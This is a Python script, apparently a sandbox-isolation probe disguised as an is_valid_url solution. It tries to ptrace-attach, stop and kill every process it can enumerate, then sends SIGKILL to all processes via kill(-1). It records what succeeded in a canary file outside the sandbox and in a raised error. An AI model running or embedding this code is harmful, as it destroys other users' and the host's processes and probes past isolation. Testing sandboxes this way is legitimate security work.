"""Stops, kills and traces every other process it can name: SIGSTOP, SIGKILL, ptrace attach."""
import ctypes, os, signal

CANARY = "@CANARY@"
EVIDENCE = []


def evidence(text):
    """What succeeded: in the report (the error below), and in a file outside the sandbox."""
    EVIDENCE.append(text)
    try:
        with open(CANARY, "a") as f:
            f.write(text)
    except OSError:
        pass


libc = ctypes.CDLL(None, use_errno=True)
me = os.getpid()
candidates = {int(p) for p in os.listdir("/proc") if p.isdigit()} | {os.getppid()} | set(range(1, 300))
candidates.discard(me)
for pid in sorted(candidates):
    if libc.ptrace(16, pid, 0, 0) == 0:  # PTRACE_ATTACH
        evidence(f"traced {pid}\n")
    for signum in (signal.SIGSTOP, signal.SIGKILL):
        try:
            os.kill(pid, signum)
            if pid not in (1,) and os.path.exists(f"/proc/{pid}"):
                evidence(f"signalled {pid} with {signum}\n")
        except OSError:
            pass
try:
    os.kill(-1, signal.SIGKILL)  # everything this uid may signal (this process too, last)
except OSError:
    pass


def is_valid_url(url):
    if EVIDENCE:
        raise ValueError("EVIDENCE: " + " | ".join(EVIDENCE)[:1000])
    raise ValueError("this program implements no rule")
